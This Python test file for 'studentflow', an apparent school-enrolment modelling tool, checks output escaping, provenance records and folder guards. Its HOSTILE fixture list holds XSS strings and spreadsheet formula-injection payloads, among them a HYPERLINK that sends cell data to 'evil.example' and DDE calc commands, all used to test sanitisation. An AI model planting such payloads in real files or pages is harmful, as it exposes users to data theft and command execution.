"""Outputs an analyst can hand over: names and places, hostile text made harmless,
run.json provenance (re-runnable), the output-folder guard, and `studentflow explain`."""

from __future__ import annotations

import contextlib
import io
import json
import re
import shutil

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from studentflow.cli import main
from studentflow.report.names import FORMULA_STARTS, spreadsheet_safe, unsafe_text

#: Names a raw file could carry that would run as script or formula if written as is.
HOSTILE = [
    "<script>alert('x')</script>",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "</script><img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "'=1+1",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _cli(*argv):
    err, out = io.StringIO(), io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
        code = main(list(argv))
    return code, out.getvalue(), err.getvalue()


@pytest.fixture(scope="module")
def hostile_run(small_region, tmp_path_factory):
    """The small synthetic region with every school name in the enrolment workbook
    replaced by a hostile one, run end to end through `studentflow run`."""
    raw = tmp_path_factory.mktemp("hostile_raw")
    shutil.copytree(small_region, raw, dirs_exist_ok=True)
    path = raw / "enrollment_sy2023-2024.xlsx"
    wb = openpyxl.load_workbook(path)
    ws = wb["DATA"]
    header = next(r for r in range(1, 10) if ws.cell(r, 6).value == "School Name")
    for k, row in enumerate(range(header + 1, ws.max_row + 1)):
        if ws.cell(row, 6).value:
            cell = ws.cell(row, 6)
            cell.value = f"{HOSTILE[k % len(HOSTILE)]} #{k}"
            cell.data_type = "s"  # text, as a government file would hold it (openpyxl would store a formula)
    wb.save(path)
    out = tmp_path_factory.mktemp("hostile_out") / "run"
    code, stdout, stderr = _cli("run", "--data", str(raw), "--out", str(out), "--draws", "3", "--seed", "5",
                                "--no-progress")
    assert code == 0, stderr
    return raw, out


def test_per_school_outputs_carry_names_and_places(hostile_run):
    _, out = hostile_run
    for name in ("public_jhs.csv", "esc_schools.csv"):
        t = pd.read_csv(out / name, dtype={"school_id": str})
        cols = list(t.columns)
        assert cols[cols.index("school_id") + 1:cols.index("school_id") + 6] == [
            "name", "municipality", "province", "region", "sector"], name
        assert t["name"].notna().all() and t["municipality"].notna().all()
    jhs = pd.read_csv(out / "public_jhs.csv", dtype={"school_id": str})
    assert set(jhs["sector"]) == {"public"}
    esc = gpd.read_file(out / "schools.gpkg", layer="esc_schools")
    assert {"name", "municipality", "province", "region", "sector"} <= set(esc.columns)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_cell_of_any_csv_can_run_as_a_formula(hostile_run):
    _, out = hostile_run
    seen_hostile = 0
    for path in [*out.glob("*.csv"), *out.glob("*.csv.gz")]:
        t = pd.read_csv(path, dtype=str, keep_default_na=False)
        for col in t.columns:
            cells = t[col]
            risky = cells[cells.str.startswith(FORMULA)]
            bad = risky[~risky.map(_is_number)]  # a negative number is a number, not a formula
            assert bad.empty, (path.name, col, bad.head(3).tolist())
        seen_hostile += int(t.apply(lambda c: c.str.contains("HYPERLINK", regex=False)).to_numpy().sum())
    assert seen_hostile > 0  # the hostile names did reach the CSVs (as text)
    scen = pd.read_csv(out / "scenarios.csv")
    assert scen["vs_observed_lo"].dtype.kind == "f" and (scen["vs_observed_lo"] < 0).any()  # numbers stay numbers
    back = unsafe_text(pd.read_csv(out / "public_jhs.csv", dtype={"school_id": str}))
    assert back["name"].str.match(r"^(=HYPERLINK|\+cmd|-2\+3|@SUM|<script>|'=1\+1)").any()


def test_no_hostile_text_unescaped_in_the_report(hostile_run):
    _, out = hostile_run
    page = (out / "report.html").read_text(encoding="utf-8")
    for raw in ("<script>alert('x')</script>", "<img src=x onerror", "<svg onload", "</script><img"):
        assert raw not in page
    # every <script> element is ours: plotly.js, its figure, and the topology guard
    assert len(re.findall(r"<script\b", page)) == 4
    assert "&lt;script&gt;alert(" in page  # the names are there, escaped
    footer = page[page.index("<footer>"):]
    assert "Raw files read" in footer and "SHA-256" in footer


@given(st.lists(st.tuples(st.floats(), st.floats(width=32), st.integers(-10**6, 10**6), st.text(max_size=6)),
                min_size=1, max_size=30))
@settings(max_examples=80, deadline=None)
def test_floats_written_as_text_give_the_same_csv(rows):
    """floats_as_text (float.__repr__ per value) writes the very bytes pandas writes for float
    columns (numpy's text): NaN, ±inf, -0.0, subnormals, huge and tiny values included."""
    from studentflow.report.files import floats_as_text

    a, b, n, t = zip(*rows)
    frame = pd.DataFrame({"a": np.array(a, dtype=np.float64), "b": np.array(b, dtype=np.float64), "n": n,
                          "t": pd.Series(t, dtype="str"), "f32": np.array(b, dtype=np.float32)})
    frame.insert(2, "a2", frame["a"] * 1e20)
    text = floats_as_text(frame)
    assert text.to_csv(index=False) == frame.to_csv(index=False)
    assert frame["a"].dtype == np.float64  # the caller's frame is left as it was


@given(st.lists(st.one_of(st.text(max_size=12), st.none(), st.floats(allow_nan=False, allow_infinity=False)),
                min_size=1, max_size=20))
@settings(max_examples=60, deadline=None)
def test_spreadsheet_safe_roundtrip_and_numbers_untouched(values):
    frame = pd.DataFrame({"text": pd.Series([v if isinstance(v, str) else None for v in values], dtype=object),
                          "number": [-(abs(v)) if isinstance(v, float) else -1.5 for v in values]})
    safe = spreadsheet_safe(frame)
    assert not safe["text"].dropna().astype(str).str.startswith(FORMULA).any()
    pd.testing.assert_series_equal(safe["number"], frame["number"])
    back = unsafe_text(safe)
    assert back["text"].tolist() == frame["text"].tolist()
    assert set(FORMULA) <= set(FORMULA_STARTS)


def test_run_json_records_and_reruns_the_exact_command(hostile_run, tmp_path):
    raw, out = hostile_run
    rec = json.loads((out / "run.json").read_text())
    assert rec["tool"] == "studentflow" and rec["status"] == "complete"
    assert rec["seed"] == 5 and rec["draws"] == 3
    assert rec["libraries"]["numpy"] == np.__version__ and rec["python"]
    files = {f["file"]: f for f in rec["data"]["files"]}
    assert "enrollment_sy2023-2024.xlsx" in files and "road_matrix_index.json" in files
    import hashlib

    xlsx = (raw / "enrollment_sy2023-2024.xlsx").read_bytes()
    assert files["enrollment_sy2023-2024.xlsx"] == {"kind": "enrollment", "file": "enrollment_sy2023-2024.xlsx",
                                                    "bytes": len(xlsx), "sha256": hashlib.sha256(xlsx).hexdigest()}
    ledger = pd.read_csv(out / "ledger.csv")
    assert rec["ledger"]["rows"] == len(ledger) and sum(rec["ledger"]["by_action"].values()) == len(ledger)
    assert set(rec["timings"]) >= {"ingest", "distances", "pairs", "fit", "scenarios", "report", "total"}
    assert rec["outputs"]["scenarios.csv"]["bytes"] == (out / "scenarios.csv").stat().st_size
    # the recorded command, with only --out changed, writes the same tables
    cmd = list(rec["command"])
    assert cmd[:2] == ["studentflow", "run"] and "--no-progress" not in cmd
    cmd[cmd.index("--out") + 1] = str(tmp_path / "again")
    code, _, err = _cli(*cmd[1:], "--no-progress")
    assert code == 0, err
    for name in ("scenarios.csv", "public_jhs.csv", "esc_origins.csv.gz", "jhs_destinations.csv.gz"):
        assert (tmp_path / "again" / name).read_bytes() == (out / name).read_bytes(), name


def test_rerun_arguments_rebuild_scenario_objects(tmp_path, small_region):
    from studentflow.pipeline import run_pipeline
    from studentflow.report.provenance import rerun_arguments
    from studentflow.scenarios.spec import Scenario

    scen = [Scenario("now", baseline=True, capacity="billed"), Scenario("+9K", subsidy=9000, add_slots_to=("1",))]
    run_pipeline(small_region / "manifest.toml", scenarios=scen, out_dir=tmp_path / "a", draws=2, seed=1,
                 progress=False)
    rec = json.loads((tmp_path / "a" / "run.json").read_text())
    assert rec["command"] is None and rec["call"]["function"] == "studentflow.pipeline.run_pipeline"
    args = rerun_arguments(tmp_path / "a", out_dir=tmp_path / "b")
    assert args["scenarios"] == scen and args["draws"] == 2 and args["seed"] == 1


def test_refuses_a_foreign_non_empty_folder_unless_overwrite(tmp_path, small_region):
    target = tmp_path / "mine"
    target.mkdir()
    (target / "thesis.docx").write_text("not studentflow's")
    code, _, err = _cli("run", "--data", str(small_region), "--out", str(target), "--draws", "0", "--no-progress")
    assert code == 2 and "not empty" in err and "--overwrite" in err and "Traceback" not in err
    assert sorted(p.name for p in target.iterdir()) == ["thesis.docx"]
    code, _, err = _cli("run", "--data", str(small_region), "--out", str(target), "--draws", "0", "--no-progress",
                        "--overwrite")
    assert code == 0, err
    assert (target / "thesis.docx").exists() and (target / "run.json").exists()
    # a folder studentflow made (its run.json) is reused without --overwrite
    code, _, err = _cli("run", "--data", str(small_region), "--out", str(target), "--draws", "0", "--no-progress")
    assert code == 0, err


def test_explain_public_jhs_and_esc_school(hostile_run):
    from studentflow.report import explain

    _, out = hostile_run
    jhs = pd.read_csv(out / "public_jhs.csv", dtype={"school_id": str})
    scen = jhs["scenario"].unique()
    top = jhs[jhs["scenario"] == scen[-1]].sort_values("relieved_mean").iloc[-1]
    ex = explain(top["school_id"], out)
    assert ex.kind == "public JHS" and list(ex.overview["scenario"]) == list(scen)
    dest = pd.read_csv(out / "jhs_destinations.csv.gz", dtype={"school_id": str, "destination_id": str})
    for name, grp in dest.groupby("scenario"):
        esc_sum = grp[grp["destination"] == "ESC"].groupby("school_id")["learners_mean"].sum()
        rel = jhs[jhs["scenario"] == name].set_index("school_id")["relieved_mean"]
        # ESC rows of a JHS add up to its relieved learners (rows under 0.01 learner left out)
        gap = (rel.reindex(esc_sum.index) - esc_sum).abs()
        assert (gap <= 0.01 * grp.groupby("school_id").size().reindex(esc_sum.index) + 1e-6).all(), name
    text = ex.summary(top=3)
    assert "stays in this public JHS" in text and "->" in text and "[" in text
    code, stdout, _ = _cli("explain", top["school_id"], "--out", str(out), "--top", "3")
    assert code == 0 and stdout.strip() == text.strip()

    esc = pd.read_csv(out / "esc_schools.csv", dtype={"school_id": str})
    sid = esc.sort_values("placed_mean").iloc[-1]["school_id"]
    ex = explain(sid, out)
    origins = pd.read_csv(out / "esc_origins.csv.gz", dtype={"school_id": str, "origin_id": str})
    mine = origins[origins["school_id"] == sid]
    placed = esc[esc["school_id"] == sid].set_index("scenario")["placed_mean"]
    np.testing.assert_allclose(mine.groupby("scenario")["placed_mean"].sum().reindex(placed.index), placed,
                               atol=0.01 * len(mine) + 1e-9)
    assert ex.kind == "ESC school" and "<-" in ex.summary()
    code, _, err = _cli("explain", "999999", "--out", str(out))
    assert code == 2 and "neither a public JHS" in err


@given(st.integers(1, 40), st.data())
@settings(max_examples=40, deadline=None)
def test_map_layers_keep_baseline_and_chosen_scenario(n, data):
    from types import SimpleNamespace

    from studentflow.report.interactive import MAX_SCENARIOS, _shown

    names = [f"s{i}" for i in range(n)]
    relieved = data.draw(st.lists(st.floats(0, 1e4), min_size=n, max_size=n))
    base, chosen = data.draw(st.sampled_from(names)), data.draw(st.sampled_from(names))
    res = SimpleNamespace(scenarios=[SimpleNamespace(name=x) for x in names], baseline=base,
                          table=pd.DataFrame({"scenario": names, "relieved_mean": relieved}))
    shown = _shown(res, chosen)
    assert len(shown) == min(n, MAX_SCENARIOS) and {base, chosen} <= set(shown)
    assert shown == [x for x in names if x in shown]  # run order kept
    if n > MAX_SCENARIOS:  # the rest are those relieving most
        rest = [x for x in shown if x not in (base, chosen)]
        left = [r for x, r in zip(names, relieved) if x not in shown]
        assert min(r for x, r in zip(names, relieved) if x in rest) >= max(left)
